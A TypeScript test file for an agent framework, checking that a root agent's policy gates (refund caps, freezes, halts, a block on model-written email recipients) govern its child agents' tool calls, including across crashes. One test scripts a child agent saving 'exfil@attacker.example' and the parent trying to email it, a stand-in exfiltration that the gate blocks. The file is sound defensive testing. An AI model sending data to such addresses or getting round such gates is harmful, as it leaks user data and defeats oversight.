import fc from "fast-check";
import * as v from "valibot";
import { describe, expect, it } from "vitest";
import { type Agent, createAgent } from "./agent.js";
import { childRunId } from "./child-run-id.js";
import type { EventStore, StoredEvent } from "./contracts/event-store.js";
import type { Gate } from "./contracts/gate.js";
import type { ContentBlock, ModelRequest } from "./contracts/model.js";
import { memoryEventStore, type ScriptedReply, scriptedModel } from "./testing/index.js";
import { tool } from "./tool.js";

const use = (id: string, name: string, input: Record<string, unknown>): ContentBlock => ({
  type: "tool_use",
  id,
  name,
  input,
});

/** The README's kind of per-run cap: at most `cap` refunds in the run the gate is shown. */
function refundCap(cap: number): Gate {
  return {
    name: "refund_cap",
    step: "2",
    check(call) {
      if (call.tool !== "issue_refund") return { type: "allow" };
      const done = call.run?.calls.filter((entry) => entry.tool === "issue_refund").length ?? cap;
      return done < cap
        ? { type: "allow" }
        : { type: "deny", reason: "refund_cap", message: `This run already issued ${cap}.` };
    },
  };
}

/** A refund tool whose effects are counted once per idempotency key. */
function refundTool(effects: Set<string>) {
  return tool({
    name: "issue_refund",
    description: "Refunds an order",
    input: v.object({ order_id: v.string() }),
    run: (args, context) => {
      effects.add(context.idempotencyKey);
      return `refunded ${args.order_id}`;
    },
  });
}

/** The turn of a run a request is for (1 for the first), from its conversation. */
const turnOf = (request: ModelRequest) => (request.messages.length + 1) / 2;

/** A model that issues `count` refunds one turn at a time, then answers (in each run). */
function refunder(name: string, count: number) {
  return scriptedModel((request: ModelRequest): ScriptedReply => {
    const call = turnOf(request);
    if (call > count) return { content: `${name} is done.` };
    return {
      content: [use(`toolu_${name}_${call}`, "issue_refund", { order_id: `${name}-${call}` })],
      stop_reason: "tool_use",
    };
  });
}

/** A model that refunds `own` times, then calls every delegate at once for `rounds` turns. */
function delegator(name: string, own: number, tools: readonly string[], rounds: number) {
  return scriptedModel((request: ModelRequest): ScriptedReply => {
    const call = turnOf(request);
    if (call <= own)
      return {
        content: [use(`toolu_${name}_r${call}`, "issue_refund", { order_id: `${name}-${call}` })],
        stop_reason: "tool_use",
      };
    const round = call - own;
    if (round > rounds || tools.length === 0) return { content: `${name} is done.` };
    return {
      content: tools.map((item, index) =>
        use(`toolu_${name}_${round}_${index}`, item, { task: `batch ${index} of ${round}` }),
      ),
      stop_reason: "tool_use",
    };
  });
}

interface Shape {
  cap: number;
  own: number;
  rounds: number;
  /** Per child: its refunds, or its grandchildren's refunds (a manager). */
  children: Array<{ refunds: number; grandchildren: number[] }>;
}

const shapeArb: fc.Arbitrary<Shape> = fc.record({
  cap: fc.integer({ min: 1, max: 4 }),
  own: fc.integer({ min: 0, max: 2 }),
  rounds: fc.integer({ min: 1, max: 2 }),
  children: fc.array(
    fc.record({
      refunds: fc.integer({ min: 0, max: 3 }),
      grandchildren: fc.array(fc.integer({ min: 0, max: 3 }), { maxLength: 2 }),
    }),
    { minLength: 1, maxLength: 3 },
  ),
});

/** A root with the cap gate over children (leaves or managers of grandchildren) that refund. */
function buildTree(store: EventStore, shape: Shape, effects: Set<string>): Agent {
  const refund = refundTool(effects);
  const tools = shape.children.map((child, index) => {
    const grand = child.grandchildren.map((refunds, g) =>
      createAgent({
        model: refunder(`g${index}_${g}`, refunds),
        tools: [refund],
        agentId: `grandchild-${index}-${g}`,
        store,
      }).asTool({ name: `grand_${g}`, description: "Refunds" }),
    );
    const agent = createAgent({
      model:
        grand.length > 0
          ? delegator(
              `c${index}`,
              child.refunds,
              grand.map((item) => item.name),
              1,
            )
          : refunder(`c${index}`, child.refunds),
      tools: [refund, ...grand],
      agentId: `child-${index}`,
      store,
    });
    return agent.asTool({ name: `child_${index}`, description: "Refunds a batch" });
  });
  return createAgent({
    model: delegator(
      "root",
      shape.own,
      tools.map((item) => item.name),
      shape.rounds,
    ),
    tools: [refund, ...tools],
    gates: [refundCap(shape.cap)],
    agentId: "root",
    store,
  });
}

/** A memory store that records the order of every append across runs (to cut it anywhere). */
function recordingStore(): {
  store: EventStore;
  order: Array<{ runId: string; event: StoredEvent }>;
} {
  const inner = memoryEventStore();
  const order: Array<{ runId: string; event: StoredEvent }> = [];
  return {
    order,
    store: {
      name: inner.name,
      read: (runId) => inner.read(runId),
      list: (filter) => inner.list(filter),
      async append(runId, events, options) {
        const result = await inner.append(runId, events, options);
        for (const [index, event] of events.entries())
          order.push({
            runId,
            event: { ...event, seq: options.expectedSeq + index } as StoredEvent,
          });
        return result;
      },
    },
  };
}

/** The refunds a store's logs admitted, by idempotency key (a re-run after a crash is one). */
async function admittedRefunds(store: EventStore): Promise<Set<string>> {
  const keys = new Set<string>();
  for (const row of await store.list({ limit: 1000 }))
    for (const event of await store.read(row.runId))
      if (event.type === "tool-call-intent" && event.tool === "issue_refund")
        keys.add(event.idempotencyKey);
  return keys;
}

describe("an ancestor's gates judge a child's calls with the ancestor's view of the tree", () => {
  it("property: a per-run cap of the root holds over its own calls and every descendant's, in parallel", async () => {
    await fc.assert(
      fc.asyncProperty(shapeArb, async (shape) => {
        const store = memoryEventStore();
        const effects = new Set<string>();
        const result = await buildTree(store, shape, effects).run("Refund the batch.", {
          runId: "run_root",
        });
        expect(result.error ?? "").not.toMatch(/unexpectedly|corrupt/i);
        expect(effects.size).toBeLessThanOrEqual(shape.cap);
        expect((await admittedRefunds(store)).size).toBeLessThanOrEqual(shape.cap);
        // The cap is used up when the tree asked for more (nothing refused that was allowed).
        const perChild = (child: Shape["children"][number]) =>
          child.refunds + child.grandchildren.reduce((total, n) => total + n, 0);
        const asked =
          shape.own + shape.rounds * shape.children.reduce((sum, c) => sum + perChild(c), 0);
        expect(effects.size).toBe(Math.min(shape.cap, asked));
      }),
      { numRuns: 40 },
    );
  });

  it("property: cut the tree's logs anywhere (a crash), resume from the root: the cap still holds", async () => {
    await fc.assert(
      fc.asyncProperty(shapeArb, fc.double({ min: 0, max: 1, noNaN: true }), async (shape, at) => {
        const { store, order } = recordingStore();
        await buildTree(store, shape, new Set()).run("Refund the batch.", { runId: "run_root" });
        const cut = Math.max(1, Math.floor(at * order.length));
        const partial = memoryEventStore();
        const prefix = order.slice(0, cut);
        for (const runId of new Set(prefix.map((entry) => entry.runId)))
          await partial.append(
            runId,
            prefix.filter((entry) => entry.runId === runId).map((entry) => entry.event),
            { expectedSeq: 0 },
          );
        // A new process: nothing in memory but the agents; the tree's view comes from the logs.
        const resumed = await buildTree(partial, shape, new Set()).resume("run_root");
        expect(resumed.error ?? "").not.toMatch(/unexpectedly|corrupt/i);
        expect((await admittedRefunds(partial)).size).toBeLessThanOrEqual(shape.cap);
      }),
      {
        numRuns: 30,
        examples: [
          [{ cap: 2, own: 0, rounds: 2, children: [{ refunds: 2, grandchildren: [] }] }, 0.6],
        ],
      },
    );
  });

  it("a freeze of the parent's run id stops the child's calls too", async () => {
    const store = memoryEventStore();
    const frozen = new Set(["run_frozen"]);
    const sent: string[] = [];
    const send = tool({
      name: "send_email",
      description: "Sends an email",
      input: v.object({ to: v.string() }),
      run: (args) => {
        sent.push(args.to);
        return "sent";
      },
    });
    const freeze: Gate = {
      name: "freeze",
      step: "0",
      check: (call) =>
        call.tool === "send_email" && frozen.has(call.run?.runId ?? "")
          ? { type: "deny", reason: "frozen", message: "This run is frozen." }
          : { type: "allow" },
    };
    const child = createAgent({
      model: scriptedModel([
        { content: [use("toolu_c1", "send_email", { to: "a@acme.example" })] },
        { content: "Sent." },
      ]),
      tools: [send],
      agentId: "mailer",
      store,
    });
    const parent = createAgent({
      model: scriptedModel([
        { content: [use("toolu_p1", "mail", { task: "mail the customer" })] },
        { content: "Done." },
      ]),
      tools: [send, child.asTool({ name: "mail", description: "Mails" })],
      gates: [freeze],
      agentId: "lead",
      store,
    });
    await parent.run("Mail the customer.", { runId: "run_frozen" });
    expect(sent).toEqual([]);
    const childLog = await store.read(childRunId("run_frozen", "toolu_p1"));
    expect(childLog.find((event) => event.type === "tool-call-refusal")).toMatchObject({
      tool: "send_email",
      decision: { reason: "frozen", gate: "freeze" },
    });
  });

  it("a value a child's model wrote is in its parent's view, before what the parent reads next, across a crash", async () => {
    const attacker = "exfil@attacker.example";
    const notes: string[] = [];
    /** Refuses a sink value that a model wrote into an earlier call anywhere in the view. */
    const modelWritten: Gate = {
      name: "model_written",
      step: "2.5",
      check(call) {
        if (call.tool !== "send_email") return { type: "allow" };
        const to = String(call.args.to);
        const writer = call.run?.calls.find((entry) => JSON.stringify(entry.args).includes(to));
        return writer
          ? {
              type: "deny",
              reason: "model_written",
              message: `${to} was written by a model (${writer.tool}, ${writer.runId ?? "own"})`,
            }
          : { type: "allow" };
      },
    };
    const save = tool({
      name: "save_contact",
      description: "Saves a contact",
      input: v.object({ contact: v.string() }),
      run: (args) => {
        notes.push(args.contact);
        return "saved";
      },
    });
    const read = tool({
      name: "read_contact",
      description: "Reads the saved contact",
      input: v.object({}),
      trust: "trusted",
      run: () => `Contact on file: ${notes.at(-1) ?? "none"}`,
    });
    const sent: string[] = [];
    const send = tool({
      name: "send_email",
      description: "Sends an email",
      input: v.object({ to: v.string() }),
      run: (args) => {
        sent.push(args.to);
        return "sent";
      },
    });
    const build = (store: EventStore, parentFrom: number) => {
      const child = createAgent({
        model: scriptedModel([
          { content: [use("toolu_c1", "save_contact", { contact: attacker })] },
          { content: "Saved the contact." },
        ]),
        tools: [save],
        agentId: "clerk",
        store,
      });
      return createAgent({
        model: scriptedModel(
          [
            { content: [use("toolu_p1", "update", { task: "update the contact" })] },
            { content: [use("toolu_p2", "read_contact", {})] },
            { content: [use("toolu_p3", "send_email", { to: attacker })] },
            { content: "Done." },
          ].slice(parentFrom),
        ),
        tools: [child.asTool({ name: "update", description: "Updates" }), read, send],
        gates: [modelWritten],
        agentId: "lead",
        store,
      });
    };
    const { store, order } = recordingStore();
    const result = await build(store, 0).run("Email the customer.", { runId: "run_echo" });
    expect(sent).toEqual([]);
    expect(result.blocked.map((entry) => entry.reason)).toEqual(["model_written"]);
    expect(result.blocked[0]!.message).toContain(childRunId("run_echo", "toolu_p1"));
    // Crash right after the child-run-end: a new process reads the child's call from its log.
    const cut =
      order.findIndex(
        (entry) => entry.runId === "run_echo" && entry.event.type === "child-run-end",
      ) + 1;
    const partial = memoryEventStore();
    const prefix = order.slice(0, cut);
    for (const runId of new Set(prefix.map((entry) => entry.runId)))
      await partial.append(
        runId,
        prefix.filter((entry) => entry.runId === runId).map((entry) => entry.event),
        { expectedSeq: 0 },
      );
    const resumed = await build(partial, 1).resume("run_echo");
    expect(sent).toEqual([]);
    expect(resumed.blocked.map((entry) => entry.reason)).toEqual(["model_written"]);
  });

  it("a child run elsewhere that halts halts its parent when it wakes, and a sibling advanced after that takes no step", async () => {
    const store = memoryEventStore();
    const sms: string[] = [];
    const wired: number[] = [];
    const wire = tool({
      name: "wire_money",
      description: "Wires money",
      input: v.object({ amount: v.number() }),
      run: (args) => {
        wired.push(args.amount);
        return "wired";
      },
    });
    const text = tool({
      name: "send_sms",
      description: "Sends a text",
      input: v.object({ to: v.string() }),
      run: (args) => {
        sms.push(args.to);
        return "sent";
      },
    });
    const noWires: Gate = {
      name: "no_wires",
      step: "2",
      check: (call) =>
        call.tool === "wire_money"
          ? { type: "deny", reason: "wire_forbidden", message: "No wires.", halt: true }
          : { type: "allow" },
    };
    const payer = createAgent({
      model: scriptedModel([
        { content: [use("toolu_a1", "wire_money", { amount: 900 })] },
        { content: "Could not wire." },
      ]),
      tools: [wire],
      agentId: "payer",
      store,
    });
    const texter = createAgent({
      model: scriptedModel([
        { content: [use("toolu_b1", "send_sms", { to: "+15550100" })] },
        { content: "Texted." },
      ]),
      tools: [text],
      agentId: "texter",
      store,
    });
    const root = createAgent({
      model: scriptedModel([
        {
          content: [
            use("toolu_p1", "pay", { task: "pay the invoice" }),
            use("toolu_p2", "notify", { task: "text the customer" }),
          ],
        },
        { content: "Done." },
      ]),
      tools: [
        payer.asTool({ name: "pay", description: "Pays" }),
        texter.asTool({ name: "notify", description: "Texts" }),
      ],
      gates: [noWires],
      agentId: "lead",
      store,
      childRunner: {
        name: "queue",
        async run(_request, control) {
          const done = await control.recorded();
          if (done) return done;
          await control.create();
          return { type: "parked", status: "awaiting_child" };
        },
      },
    });
    const first = await root.run("Pay and notify.", { runId: "run_worker_halt" });
    expect(first.status).toBe("awaiting_child");
    const payerRun = childRunId("run_worker_halt", "toolu_p1");
    const texterRun = childRunId("run_worker_halt", "toolu_p2");
    // The payer's job: the parent's gate refuses the wire and halts it.
    expect((await root.resume(payerRun)).status).toBe("halted");
    expect(wired).toEqual([]);
    // The parent wakes: the payer's halt is its halt too.
    const woken = await root.resume("run_worker_halt");
    expect(woken.haltReason).toBe("wire_forbidden");
    // The texter's job runs after that: its parent is halted, so it takes no step.
    const texted = await root.resume(texterRun);
    expect(texted.status).toBe("halted");
    expect(sms).toEqual([]);
    const last = await root.resume("run_worker_halt");
    expect(last.status).toBe("halted");
    expect(sms).toEqual([]);
  });

  it("a child whose hand-off failed (created, then the runner threw) is withdrawn: advanced later, it takes no step", async () => {
    const store = memoryEventStore();
    const refunds: string[] = [];
    const refund = tool({
      name: "issue_refund",
      description: "Refunds",
      input: v.object({ order_id: v.string() }),
      run: (args) => {
        refunds.push(args.order_id);
        return "refunded";
      },
    });
    const clerk = createAgent({
      model: scriptedModel([
        { content: [use("toolu_c1", "issue_refund", { order_id: "A1" })] },
        { content: "Refunded." },
      ]),
      tools: [refund],
      agentId: "clerk",
      store,
    });
    const root = createAgent({
      model: scriptedModel([
        { content: [use("toolu_p1", "refunds", { task: "refund A1" })] },
        { content: "Nothing was refunded." },
      ]),
      tools: [clerk.asTool({ name: "refunds", description: "Refunds" })],
      agentId: "lead",
      store,
      childRunner: {
        name: "queue",
        async run(_request, control) {
          await control.create();
          throw new Error("queue insert timed out");
        },
      },
    });
    const result = await root.run("Refund A1.", { runId: "run_orphan" });
    expect(result.status).toBe("completed");
    // The insert landed after all: the job advances the child, which must not act.
    const orphan = await root.resume(childRunId("run_orphan", "toolu_p1"));
    expect(orphan.status).toBe("stopped");
    expect(orphan.error).toContain("withdrawn");
    expect(refunds).toEqual([]);
  });
});
